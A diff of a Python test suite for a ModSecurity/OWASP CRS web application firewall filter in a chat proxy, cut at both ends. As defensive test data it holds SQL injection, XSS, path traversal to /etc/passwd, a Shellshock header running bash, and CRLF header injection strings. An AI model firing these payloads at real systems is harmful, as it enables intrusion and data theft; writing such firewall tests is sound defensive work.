+    """At paranoia 1, SQL injection, XSS, traversal, command injection and a template
+    expression in a query argument get 403 with the short reason and an access-log note giving
+    the anomaly score and the rule ids (949110, the blocking evaluation, last)."""
+    decision = firewall.request(make_head(query))
+    assert isinstance(decision, Refuse) and decision.status == 403 and decision.reason == BLOCKED
+    assert decision.note.startswith("anomaly_score=") and decision.note.endswith(",949110")
 
 
-def test_inspect_body_bytes_limits_what_is_inspected():
-    """Only the first inspect_body_bytes are inspected; a JSON body cut at the limit is
-    inspected as text (not a parse error); 0 turns body inspection off."""
-    padding = b'{"pad": "' + b"x" * 200 + b'", "q": "<script>alert(1)</script>"}'
-    small = waf.build({"inspect_body_bytes": "100"})
-    assert small.inspect_body("application/json", padding).matches == []
-    assert 941110 in ids(waf.build({"inspect_body_bytes": "1k"}).inspect_body("application/json", padding))
-    cut = b'{"q": "<script>alert(1)</script>", "pad": "' + b"x" * 200 + b'"}'
-    assert ids(small.inspect_body("application/json", cut)) >= {941110}
-    assert 200002 not in ids(small.inspect_body("application/json", cut))
-    assert waf.build({"inspect_body_bytes": "0"}).inspect_body("text/plain", b"; cat /etc/passwd").matches == []
+@pytest.mark.parametrize("query", [
+    q("Hi, I'd like to check order #4512 :)"),
+    q("It's order #4711 -- can you select a faster delivery from the list?"),
+    "pyActivity=pzMashupRequest&Channel=Web&message=" + quote("Bonjour, j'ai une question", safe=""),
+    "",
+])
+def test_benign_requests_pass(firewall, query):
+    """Ordinary chat text and Pega's query arguments pass at paranoia 1."""
+    assert firewall.request(make_head(query)) is None
 
 
-def test_request_body_adds_to_the_head_score():
-    """request_body (the proxy's body hook) refuses on the head's and the body's
-    score together; a body cut short (complete = False) that no longer parses is not
-    a parse error; a body matching nothing passes."""
-    head = make_head(host="203.0.113.9", method="POST",
-                     headers=BROWSER + [("Content-Type", "application/json"), ("Content-Length", "30")])
-    assert PURE.request(head) is None  # 920350 alone: 3
-    assert PURE.request_body(head, b'{"a": "fine"}', True) is None
-    assert isinstance(PURE.request_body(head, b'{"a": "1 and 1=1"}', True), Refuse)  # 3 + 5 (942330)
-    assert PURE.request_body(head, b'{"a": "fine", "b": "more to co', False) is None
-    assert isinstance(PURE.request_body(head, b'{"a": "fine", "b": "more to co', True), Refuse)  # 200002
-    assert isinstance(PURE.request_body(head, b'{"a": "<script>alert(1)</script>", "b": "more', False), Refuse)
+@pytest.mark.parametrize("headers", [
+    BROWSER + [("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")],
+    BROWSER + [("Cookie", "pref=%3Cscript%3Ealert(1)%3C%2Fscript%3E")],
+    BROWSER + [("X-Debug", "() { :; }; /bin/bash -c 'cat /etc/passwd'")],
+    BROWSER + [("Referer", "https://chat.example.com/?q=<script>alert(1)</script>")],
+])
+def test_headers_and_cookies_are_inspected(firewall, headers):
+    """A scanner's User-Agent (913), a script in a cookie, Shellshock in a header, XSS
+    in the Referer: refused."""
+    assert firewall.request(make_head(headers=headers)) is not None
 
 
-def test_body_hook_attributes():
-    """The filter exposes the proxy's body hook: an int inspect_body_bytes and a
-    request_body method; no max_body_bytes (the WAF does not lower body limits)."""
-    built = waf.build({"inspect_body_bytes": "8k"})
-    assert built.inspect_body_bytes == 8192 and callable(built.request_body)
-    assert getattr(built, "max_body_bytes", None) is None
+def test_request_with_a_body_is_inspected_with_its_body(firewall):
+    """A request announcing a body is left to the body hook (inspected once, head and
+    body together); a WebSocket handshake announcing one is inspected at once."""
+    attack = make_head(q("' or 1=1--"), headers=BROWSER + [("Content-Length", "5")], method="POST")
+    assert firewall.request(attack) is None
+    assert firewall.request_body(attack, b"hello", True).status == 403
+    handshake = make_head(q("' or 1=1--"), headers=BROWSER + [("Content-Length", "5"), ("Upgrade", "websocket")])
+    assert firewall.request(handshake).status == 403
+
+
+def test_paranoia_levels_and_threshold():
+    """A PL2 rule (942440, SQL comment sequence) refuses at paranoia 2, not 1; a single
+    critical rule (score 5) refuses at the default threshold, not at 10; at paranoia 4
+    and threshold 10 the stacked SQL rules still refuse an injection."""
+    comment = make_head(q("a -- b"))
+    assert build({"paranoia": "1"}).request(comment) is None
+    assert build({"paranoia": "2"}).request(comment).status == 403
+    single = make_head(q("' or 1=1--"))
+    assert build({"inbound_anomaly_threshold": "10"}).request(single) is None
+    assert build({"paranoia": "4", "inbound_anomaly_threshold": "10"}).request(single).status == 403
+
+
+def test_exclusions_by_id_and_by_target():
+    """``exclude_rules``: an id alone turns the rule off everywhere; ``ID TARGET`` only
+    for that target (the same value in another argument is still refused)."""
+    assert build({"exclude_rules": "942100"}).request(make_head(q("' or 1=1--"))) is None
+    targeted = build({"exclude_rules": "942100 ARGS:q"})
+    assert targeted.request(make_head(q("' or 1=1--"))) is None
+    assert targeted.request(make_head(q("' or 1=1--", "other"))).status == 403
+
+
+def test_exclusions_by_tag_and_by_tag_and_target():
+    """``exclude_rules = tag:attack-sqli`` turns off every SQL injection rule (XSS is still
+    refused); ``tag:attack-sqli ARGS:q`` only for that argument."""
+    untagged = build({"exclude_rules": "tag:attack-sqli"})
+    assert untagged.request(make_head(q("' or 1=1--"))) is None
+    assert untagged.request(make_head(q("<script>alert(1)</script>"))).status == 403
+    targeted = build({"exclude_rules": "tag:attack-sqli ARGS:q"})
+    assert targeted.request(make_head(q("' or 1=1--"))) is None
+    assert targeted.request(make_head(q("' or 1=1--", "other"))).status == 403
+
+
+# ---------------------------------------------------------------------------
+# Bodies
+
+MULTIPART = (b'--XX\nContent-Disposition: form-data; name="note"\n\nVALUE\n--XX\n'
+             b'Content-Disposition: form-data; name="f"; filename="a.txt"\nContent-Type: text/plain\n\nfile\n--XX--\n')
+
+
+@pytest.mark.parametrize("content_type, body, status", [
+    ("application/x-www-form-urlencoded", b"name=jane&msg=%27+union+select+password+from+users--", 403),
+    ("application/x-www-form-urlencoded", b"name=jane&msg=It%27s+order+4711", None),
+    ("application/json", b'{"text": "<svg onload=alert(1)>"}', 403),
+    ("application/json", b'{"a": {"b": ["x", "<script>alert(1)</script>"]}}', 403),
+    ("application/json", b'{"type": "text", "text": "Thanks, I got it!"}', None),
+    ("application/json", b'{"text": "unterminated', 400),
+    ("multipart/form-data; boundary=XX", MULTIPART.replace(b"VALUE", b"<script>alert(1)</script>"), 403),
+    ("multipart/form-data; boundary=XX",
+     MULTIPART.replace(b"VALUE", b"<script>alert(1)</script>").replace(b"\n", b"\r\n"), 403),
+    ("multipart/form-data; boundary=XX", MULTIPART, None),
+    ("multipart/form-data; boundary=XX", MULTIPART.replace(b"\n", b"\r\n"), None),
+    ("application/xml", b"<?xml version='1.0'?><order><note>' or 1=1--</note></order>", 403),
+    ("application/xml", b"<?xml version='1.0'?><order><note>Leave it at the door, please</note></order>", None),
+], ids=["form attack", "form", "json xss", "nested json", "json", "broken json", "multipart LF attack",
+        "multipart CRLF attack", "multipart LF", "multipart CRLF", "xml attack", "xml"])
+def test_request_bodies(firewall, content_type, body, status):
+    """Url-encoded, JSON (also ``+json``), multipart (lines ending in LF or CRLF) and XML
+    bodies are parsed into the arguments CRS inspects; a JSON body that does not parse
+    gets 400 (ModSecurity's recommended rule 200002)."""
+    decision = firewall.request_body(post_head(content_type, len(body)), body, True)
+    assert (decision.status if decision is not None else None) == status
+
+
+def test_allowed_content_types():
+    """CRS's content-type policy (920420) refuses a type it does not list (text/plain in
+    CRS 3.3); ``allowed_content_types`` replaces the list, and a ``+json`` type listed
+    there is parsed as JSON."""
+    flt = build({})
+    assert flt.inspect(request_transaction(post_head("text/plain", 5), b"hello")).rule_ids == (920420, 949110)
+    allowing = build({"allowed_content_types": "application/json, text/plain, application/vnd.api+json"})
+    assert allowing.request_body(post_head("text/plain", 5), b"hello", True) is None
+    body = b'{"text": "<script>alert(1)</script>"}'
+    found = allowing.inspect(request_transaction(post_head("application/vnd.api+json", len(body)), body))
+    assert 941110 in found.rule_ids and 920420 not in found.rule_ids
+
+
+def test_inspection_limit_and_over_limit_policy():
+    """Only the first ``inspect_body_bytes`` of a body are inspected: with ``over_limit =
+    pass`` a JSON body cut there is not a parse error and an attack after the limit is not
+    seen; with ``over_limit = refuse`` a body longer than the limit gets 413."""
+    small = build({"inspect_body_bytes": "1k"})
+    late = json.dumps({"pad": "x" * 2000, "text": "<script>alert(1)</script>"}).encode()
+    head = post_head("application/json", len(late))
+    assert small.request_body(head, late[:1024], False) is None
+    assert small.request_body(head, late[:1024] + b"{", True) is None  # a hook before wanted more
+    refusing = build({"inspect_body_bytes": "1k", "over_limit": "refuse"})
+    assert refusing.request_body(head, late[:1024], False).status == 413
+    fits = json.dumps({"text": "fine"}).encode()
+    assert refusing.request_body(post_head("application/json", len(fits)), fits, True) is None
+
+
+def test_every_transaction_is_handed_to_the_offload():
+    """Requests, bodies and messages are inspected through the offload (the thread pool
+    in the proxy): each hook returns a Deferred firing with its decision, and the work
+    it handed over is the engine's transaction; what needs no inspection (a binary
+    message, a request whose body will follow) is decided at once."""
+    handed: list[Any] = []
+    pending: list[defer.Deferred[Any]] = []
+
+    def offload(work: Any) -> defer.Deferred[Any]:
+        handed.append(work)
+        pending.append(defer.Deferred())
+        return pending[-1]
+
+    flt = WebApplicationFirewall(WafSettings(), find_crs(), offload=offload)
+    body = json.dumps({"text": "fine " * 4000, "evil": "<script>alert(1)</script>"}).encode()
+    results = [flt.request(make_head(q("' or 1=1--"))),
+               flt.request_body(post_head("application/json", len(body)), body, True),
+               flt.message(websocket_head("/chat"), b"<script>alert(1)</script>", False, True)]
+    assert all(isinstance(result, defer.Deferred) for result in results) and len(handed) == 3
+    decisions: list[Any] = []
+    for result, work, waiting in zip(results, handed, pending):
+        result.addCallback(decisions.append)
+        waiting.callback(work())  # as the pool does: the work's outcome, back in the reactor thread
+    assert [getattr(d, "status", getattr(d, "code", None)) for d in decisions] == [403, 403, 1008]
+    assert flt.message(websocket_head("/chat"), b"<script>", True, True) is None
+    assert flt.request(post_head("application/json", 10)) is None and len(handed) == 3
+
+
+# ---------------------------------------------------------------------------
+# WebSocket messages
 
 
 @pytest.mark.parametrize("payload, binary, upward, closed", [
-    (b'{"type": "message", "text": "\' union select password from users--"}', False, True, True),
-    (b'{"type": "message", "text": "Where is my order? It\'s #4512"}', False, True, False),
-    (b'{"$where": "sleep(5000)"}', False, True, True),  # JSON keys are inspected
-    (b"<script>alert(1)</script>", False, True, True),  # plain text message
-    (b'{"broken json <script>alert(1)</script>', False, True, True),
-    (b"<script>alert(1)</script>", True, True, False),  # binary messages are not inspected
-    (b"<script>alert(1)</script>", False, False, False),  # nor messages from the upstream
-    ('{"text": "Bonjour, où est ma commande ?"}'.encode(), False, True, False),
+    (json.dumps({"type": "message", "text": "<img src=x onerror=alert(document.cookie)>"}), False, True, True),
+    (json.dumps({"type": "message", "text": "' union select password from users--"}), False, True, True),
+    ("plain text ' or 1=1--", False, True, True),
+    (json.dumps({"type": "message", "text": "Bonjour, j'ai une question sur ma commande"}), False, True, False),
+    ("<script>alert(1)</script>", True, True, False),
+    ("<script>alert(1)</script>", False, False, False),
 ])
-def test_message_hook(payload, binary, upward, closed):
-    """The WebSocket message hook inspects client text messages (JSON ones by keys
-    and string values) and closes the session with 1008 over the threshold."""
-    verdict = PURE.message(make_head(), payload, binary, upward)
-    if closed:
-        assert verdict == CloseSession(1008, BLOCKED)
-    else:
-        assert verdict is None
+def test_messages(firewall, payload, binary, upward, closed):
+    """Client-to-upstream text messages are inspected (JSON by its keys and values, other
+    text as one value): an attack closes the session with 1008; binary messages and
+    messages from the upstream are not inspected."""
+    verdict_ = firewall.message(websocket_head("/chat"), payload.encode(), binary, upward)
+    assert verdict_ == (CloseSession(1008, BLOCKED) if closed else None)
 
 
-@pytest.mark.parametrize("name, text", [
-    ("line breaks", "\r\n" * 32000),
-    ("template braces", "{{" * 32000 + "x"),
-    ("tags", "<a " * 21000),
-    ("statements", "select 1 " * 7000),
-    ("comments", "*/" + "/*!" * 21000),
-    ("shell glob", "; /" + "a?" * 32000 + "!"),
-    ("lookups", "${" + "${lower:" * 8000),
-])
-def test_large_adversarial_values_are_inspected_in_linear_time(name, text):
-    """A 64 kB message built to make regular expressions backtrack is inspected at
-    paranoia 4 in well under 5 seconds (before the patterns were bounded some took
-    minutes): no rule backtracks quadratically."""
-    import time
-
-    firewall = WebApplicationFirewall(paranoia=4)
-    started = time.monotonic()
-    firewall.message(make_head(), text.encode()[:65536], False, True)
-    assert time.monotonic() - started < 5.0, name
+def test_message_limit_and_drop():
+    """A message longer than ``inspect_message_bytes`` is inspected up to the limit (pass)
+    or refused with 1009 (refuse); with ``refused_message = drop`` the chain drops a
+    refused message and the session goes on."""
+    attack = "<script>alert(1)</script>"
+    late = "x" * 200 + attack
+    assert build({"inspect_message_bytes": "100"}).message(websocket_head(), late.encode(), False, True) is None
+    refusing = build({"inspect_message_bytes": "100", "over_limit": "refuse"})
+    assert refusing.message(websocket_head(), late.encode(), False, True).code == 1009
+    runner = ChainRunner(RouteFilter("waf", build().flt, drop_refused=True))
+    assert runner.message(attack) == DROP
+    assert runner.message("hello") is None and runner.counters["waf:refused"] == 1
 
 
 # ---------------------------------------------------------------------------
-# The log line
+# Report mode, log line, metrics
 
 
-def test_log_line_lists_rules_targets_and_excerpts(monkeypatch):
-    """The log line names the score, threshold and paranoia, each matched rule's id
-    and message, the target, and at most 100 characters of the value (escaped)."""
+def test_report_mode_passes_and_notes(firewall):
+    """``mode = report`` (detection only): the request passes, the chain counts it as
+    reported, and the head carries the waf's note for the access log."""
+    runner = ChainRunner(RouteFilter("waf", firewall.flt, report=True))
+    outcome = runner.request(make_head(q("../../../../etc/passwd", "file")))
+    assert outcome.passed and runner.counters["waf:reported"] == 1
+    (name, note), = outcome.head.notes
+    assert name == "waf" and "rules=930100,930110,930120" in note
+    refused = ChainRunner(RouteFilter("waf", firewall.flt)).request(make_head(q("' or 1=1--")))
+    assert refused.status == 403 and refused.head.notes[0][1].startswith("anomaly_score=5 rules=942100")
+
+
+def test_log_line_lists_rules_targets_and_data(monkeypatch):
+    """One log line per inspection that matched: the verdict, score, threshold and
+    paranoia, the request, and each rule with its message, target and (at most 100
+    characters of) its data."""
     events: list[dict[str, Any]] = []
-    monkeypatch.setattr(waf_module, "log", Logger(observer=events.append))
-    long_value = "' or 1=1-- " + "x" * 300 + "\x1b[2J"
-    assert isinstance(PURE.request(make_head(q(long_value, name="msg"))), Refuse)
-    assert len(events) == 1
-    line = formatEvent(events[0])
-    assert line.startswith("waf: anomaly score ")
-    assert "reaches threshold 5 (paranoia 1) for GET /prweb/chat?msg=" in line
-    assert "942180 Detects basic SQL authentication bypass attempts 1/3" in line
-    assert "at ARGS:msg=\"' or 1=1-- xxxx" in line
-    assert "x" * 101 not in line and "\x1b" not in line
-    assert "..." in line
-    events.clear()
-    assert PURE.request(make_head(host="203.0.113.9")) is None
-    assert "is below threshold 5" in formatEvent(events[0])
-    events.clear()
-    assert PURE.request(make_head("q=hello")) is None
-    assert events == []  # nothing matched: no line
+    monkeypatch.setattr(Logger, "info", lambda self, fmt, **kw: events.append(dict(kw, log_format=fmt)))
+    flt = build({})
+    flt.request(make_head(q("' or 1=1--"), client="198.51.100.7"))
+    line = formatEvent(events[-1])
+    assert line.startswith("waf: refused with 403 (anomaly score 5, threshold 5, paranoia 1) for GET /prweb/chat?q=")
+    assert "from 198.51.100.7" in line
+    assert "942100 SQL Injection Attack Detected via libinjection at ARGS:q" in line
+    assert "949110 Inbound Anomaly Score Exceeded (Total Score: 5)" in line
+
+
+def test_metrics_by_route_outcome_and_rule():
+    """The filter's counters: inspections by route, what and outcome, rule matches by
+    route and rule id (the proxy adds the filter section as a label)."""
+    flt = build({})
+    flt.request(make_head(q("' or 1=1--")))
+    flt.request(make_head(q("hello")))
+    flt.message(websocket_head("/ws", route="chat"), b"<script>alert(1)</script>", False, True)
+    samples = {(m.name, m.labels): m.value for m in flt.metrics()}
+    inspections = "chatproxy_waf_inspections"
+    assert samples[(inspections, (("route", "chat"), ("what", "request"), ("outcome", "refused")))] == 1
+    assert samples[(inspections, (("route", "chat"), ("what", "request"), ("outcome", "clean")))] == 1
+    assert samples[(inspections, (("route", "chat"), ("what", "message"), ("outcome", "refused")))] == 1
+    assert samples[("chatproxy_waf_rule_matches", (("route", "chat"), ("rule", "942100")))] == 1
+    assert samples[("chatproxy_waf_rule_matches", (("route", "chat"), ("rule", "949110")))] == 2
 
 
 # ---------------------------------------------------------------------------
-# Options
+# Errors
 
 
 @pytest.mark.parametrize("options, option, message", [
     ({"paranoia": "5"}, "paranoia", "expected a paranoia level from 1 to 4, got 5"),
-    ({"paranoia": "high"}, "paranoia", "expected a paranoia level from 1 to 4, got 'high'"),
-    ({"threshold": "0"}, "threshold", "expected a whole number of at least 1, got 0"),
-    ({"threshold": "5.5"}, "threshold", "expected a whole number of at least 1, got '5.5'"),
-    ({"inspect_body_bytes": "lots"}, "inspect_body_bytes", "expected a size such as 65536, 64k or 10m"),
+    ({"inbound_anomaly_threshold": "0"}, "inbound_anomaly_threshold", "expected a whole number of at least 1"),
     ({"inspect_body_bytes": "17m"}, "inspect_body_bytes", "must be at most 16m"),
-    ({"disable_rules": "942100, 123"}, "disable_rules", "unknown rule id 123"),
-    ({"disable_rules": "sqli"}, "disable_rules", "'sqli' is not a rule id"),
-    ({"paranioa": "2"}, "paranioa", "unknown option (waf takes: paranoia, threshold, inspect_body_bytes, "
-                                    "disable_rules)"),
+    ({"over_limit": "drop"}, "over_limit", "pass or refuse"),
+    ({"exclude_rules": "123456"}, "exclude_rules", "unknown rule id 123456: the CRS in /usr/share/modsecurity-crs"),
+    ({"exclude_rules": "942100 args:q"}, "exclude_rules", "not a ModSecurity target"),
+    ({"exclude_rules": "tag:attack-nosuch"}, "exclude_rules", "unknown tag attack-nosuch: no rule of the CRS"),
+    ({"crs": "/nonexistent/crs"}, "crs", "no OWASP CRS at /nonexistent/crs: the directory does not exist"),
+    ({"threshold": "5"}, "threshold", "unknown option"),
+    ({"disable_rules": "942100"}, "disable_rules", "unknown option"),
 ])
 def test_build_errors_name_the_option(options, option, message):
-    """Bad options raise FilterOptionError naming the option."""
+    """Every mistake is a FilterOptionError naming its option."""
     with pytest.raises(FilterOptionError) as info:
-        waf.build(options)
-    assert info.value.option == option
-    assert message in info.value.message
+        build_filter(waf, options, directory=ROOT)
+    assert info.value.option == option and message in info.value.message
 
 
-def test_build_accepts_every_option():
-    """All options together, with lists comma- or newline-separated."""
-    built = waf.build({"paranoia": "3", "threshold": "10", "inspect_body_bytes": "1m",
-                       "disable_rules": "942100\n920350, 941100"})
-    assert (built.paranoia, built.threshold, built.inspect_body_bytes) == (3, 10, 1024 * 1024)
-    assert built.disabled == {942100, 920350, 941100}
-    assert not built.active & {942100, 920350, 941100}
+def test_crs_without_rule_files_and_missing_engine(tmp_path, monkeypatch):
+    """A ``crs`` directory without rule files is refused; an engine that cannot be
+    loaded says which Debian package to install (named on ``use``)."""
+    with pytest.raises(FilterOptionError, match="holds no rule files"):
+        build_filter(waf, {"crs": str(tmp_path)}, directory=ROOT)
+    with pytest.raises(EngineMissing, match="apt-get install libmodsecurity3"):
+        ModSecurity("libmodsecurity-not-there.so.3")
+
+    def missing() -> ModSecurity:
+        raise EngineMissing("ModSecurity is not installed: install Debian's libmodsecurity3 package")
+
+    monkeypatch.setattr("chatproxy.filters.modsecurity.engine", missing)
+    with pytest.raises(FilterOptionError) as info:
+        build_filter(waf, {})
+    assert info.value.option == "use" and "libmodsecurity3" in info.value.message
+
+
+def test_crs_option_points_at_another_release(tmp_path):
+    """``crs`` may name a CRS root (with rules/) or its rules directory: a copy of the
+    package's rules works from either, a relative path from the configuration file's
+    directory."""
+    rules = tmp_path / "crs-copy" / "rules"
+    rules.mkdir(parents=True)
+    for path in Path(DEFAULT_CRS, "rules").iterdir():
+        (rules / path.name).write_bytes(path.read_bytes())
+    flt = Settled(build_filter(waf, {"crs": "crs-copy"}, directory=tmp_path))
+    assert flt.crs.rules_dir == str(rules) and flt.request(make_head(q("' or 1=1--"))).status == 403
+    assert build_filter(waf, {"crs": str(rules)}).crs.rules_dir == str(rules)
 
 
 def test_config_errors_name_file_section_and_option(tmp_path):
-    """Through load_config and validate, an option error names the file, the [filter:NAME] section
-    and the option."""
+    """Through the configuration loader and validate: the file, the section and the option."""
     path = tmp_path / "chat.ini"
-    path.write_text("[listen:main]\nendpoint = tcp:0\n\n[filter:firewall]\nuse = waf\ndisable_rules = 942100, 1\n")
+    path.write_text("[listen:main]\nendpoint = tcp:8443\n[upstream:app]\nservers = http://127.0.0.1:1\n"
+                    "[route:all]\npath = /\nupstream = app\nfilters = firewall\n"
+                    "[filter:firewall]\nuse = waf\nexclude_rules = 942100 ARGS:message, 999999\n")
     with pytest.raises(ConfigError) as info:
-        validate(load_config([path]))
-    assert str(info.value).startswith(f"{path} [filter:firewall] disable_rules: unknown rule id 1")
-    path.write_text("[listen:main]\nendpoint = tcp:0\n\n[filter:firewall]\nuse = waf\nparanoia = 0\n")
-    with pytest.raises(ConfigError) as info:
-        validate(load_config([path]))
-    assert str(info.value) == f"{path} [filter:firewall] paranoia: expected a paranoia level from 1 to 4, got 0"
+        validate_config(path)
+    assert str(info.value).startswith(f"{path} [filter:firewall] exclude_rules: unknown rule id 999999")
+
+
+def validate_config(path: Path) -> Any:
+    """load_config then validate, as every place that loads a configuration does."""
+    return validate(load_config([str(path)]))
 
 
 # ---------------------------------------------------------------------------
-# Quality on the corpus
+# The benign chat corpus: the false-positive guard
 
 
-def _corpus() -> tuple[list[tuple[str, str]], list[str]]:
-    return measure.load_attacks(), measure.load_benign()
+def profile_options(name: str, section: str) -> dict[str, str]:
+    """The options of a vendor profile's waf section."""
+    return measure.profile_options(str(ROOT / "etc" / name), section)
 
 
-@pytest.mark.parametrize("use_libinjection", [False, True], ids=["rules", "rules+libinjection"])
-@pytest.mark.parametrize("form", ["query", "ws"])
-def test_quality_floors_at_paranoia_1(form, use_libinjection):
-    """On the whole corpus (the main, holdout and blind sets of tests/waf_corpus), at
-    paranoia 1 and threshold 5, as query values and as JSON WebSocket messages: at
-    least 90% of the attacks are refused overall and at least 85% in each category,
-    and at most 1% of the benign chat lines are."""
-    if use_libinjection and not HAVE_LIBINJECTION:
-        pytest.skip("libinjection-python is not installed")
-    attacks, benign = _corpus()
-    assert len(attacks) >= 750 and len(benign) >= 700
-    result = measure.measure(WebApplicationFirewall(paranoia=1, use_libinjection=use_libinjection), form,
-                             attacks, benign)
-    assert result["overall"] >= 0.90, result["misses"]
-    for category, rate in result["detection"].items():
-        assert rate >= 0.85, (category, [p for c, p in result["misses"] if c == category])
-    assert result["false_positive_rate"] <= 0.01, result["false_positives"]
-
-
-def test_higher_paranoia_detects_at_least_as_much():
-    """Detection never drops as the paranoia level rises (rules are only added)."""
-    attacks, _ = _corpus()
-    sample = attacks[::3]
-    rates = [measure.measure(WebApplicationFirewall(paranoia=level, use_libinjection=False), "query", sample,
-                             [])["overall"] for level in (1, 2, 3, 4)]
-    assert rates == sorted(rates), rates
+@pytest.mark.parametrize("profile, section", [("pega-chat.ini", "waf"), ("pega-client-channel.ini", "webhook-waf")])
+def test_benign_chat_messages_pass_with_the_vendor_profiles(profile, section):
+    """With a vendor profile's waf options (paranoia level and exclusions), at most 1 of
+    the 718 benign chat lines sent as JSON chat messages is refused (the hand-written
+    rule set's figure was 1, 0.1%)."""
+    flt = measure.build(profile_options(profile, section))
+    benign = measure.load_benign()
+    refused = [line for line in benign if measure.blocked(flt, "ws", line)]
+    assert len(benign) == 718 and len(refused) <= 1, refused
 
 
 def test_corpus_files_parse():
-    """Every corpus line belongs to a known category; esc: lines unescape."""
-    attacks, benign = _corpus()
-    assert {category for category, _ in attacks} == set(measure.CATEGORIES)
+    """The corpus loads: 760 attacks in five categories, 718 benign lines, escapes decoded."""
+    attacks, benign = measure.load_attacks(), measure.load_benign()
+    assert len(attacks) == 760 and len(benign) == 718
     assert ("protocol", "foo\r\nSet-Cookie: session=attacker") in attacks
-    assert ("rce", "#{7*7}") in attacks  # a payload starting with "#" is not a comment
     assert "Line one\r\nLine two" in benign
 
 
@@ -609,63 +640,82 @@ def test_corpus_files_parse():
 WAF_FILTER = "[filter:firewall]\nuse = waf\n"
 
 
-def test_waf_through_twistd(proxy, upstream):
-    """Through twistd: a request with SQL injection in the query gets 403 with the
-    short body and never reaches the upstream; XSS in a cookie likewise; a benign chat
-    request (apostrophes, Pega query arguments) reaches the upstream; the log has the
-    waf line with the rule ids and the chain's refusal line."""
-    port = free_port()
-    process = proxy.start(config(upstream.url, listen(port), "filters = firewall", WAF_FILTER), port=port)
-
+def test_waf_through_twistd(proxy, upstream, tmp_path):
+    """Through twistd: SQL injection in the query gets 403 with the short body and never
+    reaches the upstream; XSS in a cookie likewise; a benign chat request reaches the
+    upstream; the log has the waf line and the chain's refusal line; the JSON access log
+    records the anomaly score and rule ids of the refused request; /metrics counts the
+    refusals by filter, route and outcome and the matched rules."""
+    port, admin = free_port(), free_port()
+    access = tmp_path / "access.log"
+    process = proxy.start(config(upstream.url, listen(port), "filters = firewall",
+                                 WAF_FILTER + f"[admin]\nendpoint = tcp:{admin}:interface=127.0.0.1\n",
+                                 f"access_log = {access}\naccess_log_format = json"), port=port)
     refused = send(port, "GET", "/prweb/PRChat/app/?pyActivity=x&q=" + quote("' or '1'='1' --", safe=""))
-    assert refused.status == 403
-    assert refused.body == BLOCKED.encode() + b"\n"
+    assert refused.status == 403 and refused.body == BLOCKED.encode() + b"\n"
     cookie = send(port, "GET", "/echo/cookie", [("Cookie", "pref=%3Cscript%3Ealert(1)%3C%2Fscript%3E")])
     assert cookie.status == 403
-
     benign = "/echo/chat?pyActivity=pzMashupRequest&message=" + quote("Hi, I'd like to check order #4512 :)",
                                                                         safe="")
     ok = send(port, "GET", benign, [("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)"), ("Accept", "*/*")])
     assert ok.status == 200
     assert [r["path"] for r in upstream.requests] == [benign]
-
-    line = log_line(process, "waf: anomaly score")
-    assert "reaches threshold 5 (paranoia 1) for GET /prweb/PRChat/app/" in line
-    assert "942180 Detects basic SQL authentication bypass attempts" in line and "at ARGS:q=" in line
+    line = log_line(process, "waf: refused with 403")
+    assert "for GET /prweb/PRChat/app/" in line and "942100 SQL Injection Attack Detected via libinjection" in line
     assert "filter firewall refused GET /prweb/PRChat/app/" in log_line(process, "filter firewall refused")
+    records = [json.loads(text) for text in wait_for_lines(access, 3)]
+    assert records[0]["status"] == 403 and records[0]["filters"]["firewall"].startswith("anomaly_score=")
+    assert "942100" in records[0]["filters"]["firewall"] and "filters" not in records[2]
+    wait_for_port(admin)
+    with urllib.request.urlopen(f"http://127.0.0.1:{admin}/metrics", timeout=10) as response:
+        metrics = response.read().decode()
+    assert 'chatproxy_waf_inspections_total{filter="firewall",outcome="refused",route="all",what="request"} 2.0' \
+        in metrics
+    assert 'chatproxy_waf_rule_matches_total{filter="firewall",route="all",rule="942100"}' in metrics
+
+
+def wait_for_lines(path: Path, count: int, timeout: float = 10.0) -> list[str]:
+    """The first ``count`` lines of a file once it has them (bounded wait)."""
+    deadline = time.monotonic() + timeout
+    while True:
+        lines = path.read_text().splitlines() if path.exists() else []
+        if len(lines) >= count or time.monotonic() > deadline:
+            return lines[:count]
+        time.sleep(0.05)
 
 
 def test_waf_request_bodies_through_twistd(proxy, upstream):
-    """Through twistd with inspect_body_bytes = 1k: a form body with SQL injection and
-    a JSON body with XSS get 403 and never reach the upstream; a benign JSON chat
-    message and a benign 50 kB body (larger than the inspected part) reach it intact;
-    an attack placed after the inspected first kilobyte is not seen (documented)."""
-    import hashlib
-
+    """Through twistd with inspect_body_bytes = 1k: a form body with SQL injection and a
+    JSON body with XSS get 403 and never reach the upstream; a broken JSON body gets 400;
+    a benign JSON chat message and a benign 50 kB body (larger than the inspected part)
+    reach it intact; an attack after the inspected first kilobyte is not seen
+    (over_limit = pass, documented); a 64 KiB body inspected in the thread pool is
+    refused when it carries an attack."""
     port = free_port()
-    proxy.start(config(upstream.url, listen(port), "filters = firewall", WAF_FILTER + "inspect_body_bytes = 1k\n"),
-                port=port)
+    proxy.start(config(upstream.url, listen(port), "filters = firewall\n[route:big]\npath = /big\nupstream = app\n"
+                       "filters = big", WAF_FILTER + "inspect_body_bytes = 1k\n[filter:big]\nuse = waf\n"), port=port)
     form = [("Content-Type", "application/x-www-form-urlencoded")]
     data = [("Content-Type", "application/json")]
     refused = send(port, "POST", "/echo/form", form, b"name=jane&msg=%27+union+select+password+from+users--")
     assert refused.status == 403 and refused.body == BLOCKED.encode() + b"\n"
     assert send(port, "POST", "/echo/json", data, b'{"text": "<svg onload=alert(1)>"}').status == 403
-
+    assert send(port, "POST", "/echo/broken", data, b'{"text": "unterminated').status == 400
     chat = json.dumps({"type": "message", "text": "Hi, I'd like to return order #4512 -- it's too small"}).encode()
     ok = send(port, "POST", "/echo/chat", data, chat)
     assert ok.status == 200 and ok.json()["body_sha"] == hashlib.sha256(chat).hexdigest()
     big = json.dumps({"text": "fine " * 10000}).encode()
     ok = send(port, "POST", "/echo/big", data, big)
     assert ok.status == 200 and ok.json()["body_length"] == len(big)
-    assert ok.json()["body_sha"] == hashlib.sha256(big).hexdigest()
     late = json.dumps({"pad": "x" * 2000, "text": "<script>alert(1)</script>"}).encode()
     assert send(port, "POST", "/echo/late", data, late).status == 200
+    threaded = json.dumps({"pad": "x" * 60000, "text": "<script>alert(1)</script>"}).encode()
+    assert send(port, "POST", "/big/attack", data, threaded).status == 403
     assert [r["path"] for r in upstream.requests] == ["/echo/chat", "/echo/big", "/echo/late"]
 
 
 def test_waf_report_mode_through_twistd(proxy, upstream):
-    """mode = report: a request with a traversal passes to the upstream and the twistd
